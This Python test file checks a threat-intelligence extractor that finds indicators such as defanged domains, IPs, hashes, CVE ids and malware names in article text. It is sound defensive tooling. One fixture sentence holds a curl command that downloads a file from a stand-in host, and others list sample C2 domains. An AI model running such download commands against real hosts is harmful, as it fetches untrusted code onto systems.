"""The promises of the core: places, order, limits, names near an indicator, and never an exception."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ingest.indicators import Document, document_from_html, document_from_text, extract
from ingest.indicators.deciding import Judge
from ingest.indicators.list_context import ListContext
from ingest.indicators.noise import address_noise
from ingest.indicators.sightings import Sighting
from ingest.indicators.verdict import Verdict
from intel.canonical import canonical, defang
from tests.examples import examples
from tests.ingest.indicators.snippets import (
    ARTICLE,
    DISARMING_ARTICLE,
    MD5,
    SHA256,
    SNIPPETS,
)

LABEL = st.from_regex(r"[a-z][a-z0-9]{2,9}(-[a-z0-9]{2,5})?", fullmatch=True)
DOMAIN = st.tuples(LABEL, LABEL, st.sampled_from(["com", "ru", "xyz", "net", "co.uk"])).map(".".join)
ADDRESS = (
    st.tuples(*[st.integers(1, 223).filter(lambda octet: octet not in (10, 127, 169, 172, 192))] * 4)
    .map(lambda octets: ".".join(map(str, octets)))
    .filter(lambda address: not address_noise(address))
)
PATH = st.from_regex(r"(/[a-zA-Z0-9]{1,8}){1,3}(\.php)?", fullmatch=True)
INDICATOR = st.one_of(
    DOMAIN.map(lambda value: ("domain", value)),
    ADDRESS.map(lambda value: ("ip", value)),
    st.tuples(DOMAIN, PATH).map(lambda parts: ("url", f"https://{parts[0]}{parts[1]}")),
    st.tuples(LABEL, DOMAIN).map(lambda parts: ("email", f"{parts[0]}@{parts[1]}")),
    st.from_regex(r"[0-9a-f]{31}[a-f]", fullmatch=True).map(lambda value: ("hash_md5", value)),
)
HOSTILE = st.text(
    alphabet="abT1059.[]()@:/\\hxp-_<>{}|;,'\"`\n\t CVE\u200b\ue001\ud800é移",
    max_size=400,
)


@given(
    INDICATOR,
    st.sampled_from(["{}", "Then {} answered.", "({})", "“{}”", "seen: {},", "`{}`", "| {} | 443 |"]),
)
def test_what_is_disarmed_is_found_again(indicator: tuple[str, str], around: str) -> None:
    type, value = indicator
    found = extract(document_from_text(ARTICLE + around.format(defang(type, value)))).indicators
    assert (type, canonical(type, value)) in {(each.type, each.value) for each in found}


@given(HOSTILE)
@settings(max_examples=examples(300))
def test_no_text_raises_and_every_place_spells_its_indicator(text: str) -> None:
    for document in (document_from_text(text), document_from_html(text)):
        extraction = extract(document)
        for indicator in extraction.indicators:
            assert document.text[indicator.start : indicator.end] == indicator.spelling
            assert canonical(indicator.type, indicator.value) == indicator.value
            assert len(extraction.sentence(indicator)) <= 300
        assert len({(each.type, each.value) for each in extraction.indicators}) == len(extraction.indicators)


def test_the_places_of_every_snippet_spell_its_indicators() -> None:
    for snippet in SNIPPETS:
        document = document_from_text(snippet.text)
        for indicator in extract(document).indicators:
            assert document.text[indicator.start : indicator.end] == indicator.spelling
            assert all(document.text[start:end] for start, end in indicator.occurrences)


def test_places_are_right_where_invisible_characters_were_cut_out() -> None:
    text = "a\u200bb\u200bc gale\u200bpost[.]com and\u00ad 185.220.101[.]47"
    spellings = {each.type: each.spelling for each in extract(document_from_text(text)).indicators}
    assert spellings == {"domain": "gale\u200bpost[.]com", "ip": "185.220.101[.]47"}


def test_indicators_come_once_in_order_of_first_appearance() -> None:
    text = f"mist-post[.]com, {MD5}, gale-post[.]com, MIST-post[.]com, CVE-2024-3400, {MD5.upper()}"
    found = extract(document_from_text(text)).indicators
    assert [each.value for each in found] == [
        "mist-post.com",
        MD5,
        "gale-post.com",
        "CVE-2024-3400",
    ]
    assert [len(each.occurrences) for each in found] == [2, 2, 1, 1]


def test_beyond_the_limit_indicators_are_dropped_and_counted() -> None:
    extraction = extract(
        document_from_text(" ".join(f"h{n}[.]gale-post[.]com" for n in range(30))),
        most_indicators=20,
    )
    assert len(extraction.indicators) == 20
    assert extraction.dropped == 10
    assert extraction.limits_reached == ("indicators",)


def test_names_of_malware_within_two_sentences_are_near() -> None:
    text = "Emotet came. It rained. gale-post[.]com answered. It rained. It rained more. TrickBot left."
    extraction = extract(document_from_text(text))
    host = next(each for each in extraction.indicators if each.type == "domain")
    assert extraction.malware_near(host) == ("Emotet",)


def test_the_sentence_of_an_indicator_is_one_line() -> None:
    extraction = extract(document_from_text("It rained.\nThe loader called gale-post[.]com\tat night. It rained."))
    assert extraction.sentence(extraction.indicators[0]) == "The loader called gale-post[.]com at night."


def test_a_refused_candidate_can_say_why() -> None:
    extraction = extract(document_from_text(f"{ARTICLE} setup.py of 8.8.8.8, imphash {MD5}"))
    assert {each.value: each.rule for each in extraction.candidates() if not each.kept} == {
        "setup.py": "name of a file",
        "8.8.8.8": "public resolver",
        MD5: "another kind of hash",
    }


def test_a_list_without_blanks_is_read_whole() -> None:
    hashes = [f"{n:064x}".replace("0", "a") for n in range(300)]
    found = extract(document_from_text(",".join(hashes))).indicators
    assert [each.value for each in found] == list(dict.fromkeys(hashes))


def test_the_publisher_is_no_indicator() -> None:
    document = Document(
        f"{ARTICLE} The server blog.gale-post.com and the server mist-post.ru.",
        publisher_host="gale-post.com",
    )
    assert [each.value for each in extract(document).indicators] == ["mist-post.ru"]


def test_a_hash_in_the_link_of_a_lookup_service_is_an_indicator_and_the_link_is_none() -> None:
    found = extract(document_from_text(f"{ARTICLE} https://www.virustotal.com/gui/file/{SHA256}/detection")).indicators
    assert [(each.type, each.value) for each in found] == [("hash_sha256", SHA256)]


def test_what_a_command_fetches_is_an_indicator() -> None:
    text = f"{ARTICLE}\nThe script then ran curl -s -o /tmp/a http://gale-post.com/w and slept.\n"
    assert [each.value for each in extract(document_from_text(text)).indicators] == [
        "http://gale-post.com/w",
        "gale-post.com",
    ]


def test_a_host_that_is_disarmed_once_is_an_indicator_everywhere() -> None:
    text = f"{DISARMING_ARTICLE} Later panel.orlop-yard.net came back, and weather.gale.org did not."
    found = {each.value: len(each.occurrences) for each in extract(document_from_text(text)).indicators}
    assert found == {"panel.orlop-yard.net": 2}


def test_names_of_malware_are_found_in_scripts_without_blanks() -> None:
    found = extract(document_from_text("Androidの場合、MoqHaoに感染します。")).indicators
    assert [each.value for each in found] == ["MoqHao"]


def test_a_rule_that_fails_costs_the_one_candidate_it_fails_on(
    monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    weigh = Judge.verdict

    def fails_on_one(judge: Judge, sighting: Sighting, list_context: ListContext = "") -> Verdict:
        if sighting[0].value == "45.61.136.47":
            raise ValueError("no such thing")
        return weigh(judge, sighting, list_context)

    monkeypatch.setattr(Judge, "verdict", fails_on_one)
    extraction = extract(document_from_text("45.61.136[.]47 and gale-post[.]com"))
    assert [indicator.value for indicator in extraction.indicators] == ["gale-post.com"]
    assert [(candidate.kept, candidate.rule) for candidate in extraction.candidates()] == [
        (False, "could not be weighed"),
        (True, "defanged"),
    ]
    assert "a candidate of type ip could not be weighed" in caplog.text


@pytest.mark.parametrize("written", ["91.92.0.0", "91.92.240.0/24"])
def test_a_network_is_called_one(written: str) -> None:
    (candidate,) = extract(document_from_text(f"The crew bought the range {written} in May.")).candidates()
    assert (candidate.kept, candidate.rule) == (False, "network")


def test_a_host_that_is_kept_with_its_series_is_told_where_it_stands_first() -> None:
    series = (
        "Within two weeks the attackers also registered the following domains for their C2 servers:"
        " galetravelabroad.com, beijinggaleblog.net, grouptarnler.com, leveldelta.com, nasdaqgaleblog.net,"
        " natureinmist.com and ustradetarn.com."
    )
    text = f"{ARTICLE}\n{series}\n\nIndicators\n\nustradetarn.com\n"
    (found,) = (each for each in extract(document_from_text(text)).indicators if each.value == "ustradetarn.com")
    assert found.start == text.index("ustradetarn.com")
